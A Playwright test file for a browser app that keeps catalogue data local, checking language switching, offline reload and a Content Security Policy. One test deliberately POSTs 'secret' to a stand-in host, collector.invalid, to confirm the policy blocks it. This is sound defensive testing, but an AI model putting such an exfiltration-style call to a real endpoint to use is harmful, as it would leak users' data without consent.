import { expect, snapshot, test } from './fixtures.ts';

test('the shell loads, says data stays local, and switches to Chinese', async ({ page, requests }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Drop a catalogue file here' })).toBeVisible();
  await expect(page.getByText('No byte of your data leaves it.')).toBeVisible();
  await page.getByTestId('language').click();
  await expect(page.getByRole('heading', { name: '把商品目录文件拖到这里' })).toBeVisible();
  expect(requests.all.length).toBeGreaterThan(0);
});

test('the built page forbids connections to other origins (CSP)', async ({ page }) => {
  await page.goto('/');
  // A .invalid host never resolves, so even without the policy no packet would leave; the test
  // asserts the browser's own CSP violation report, which only the policy produces.
  const violation = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true }),
    );
    await fetch('https://collector.invalid/collect', { method: 'POST', body: 'secret' }).catch(() => undefined);
    return Promise.race([seen, new Promise<string>((resolve) => setTimeout(() => resolve('no violation'), 3000))]);
  });
  expect(violation).toMatch(/^connect-src https:\/\/collector\.invalid/);
});

test('the shell reloads offline after the first visit', async ({ page, context }) => {
  await page.goto('/');
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  // Reload once so the page is controlled by the service worker, then go offline.
  await page.reload();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Drop a catalogue file here' })).toBeVisible();
  await snapshot(page, 'offline-shell');
  await context.setOffline(false);
});
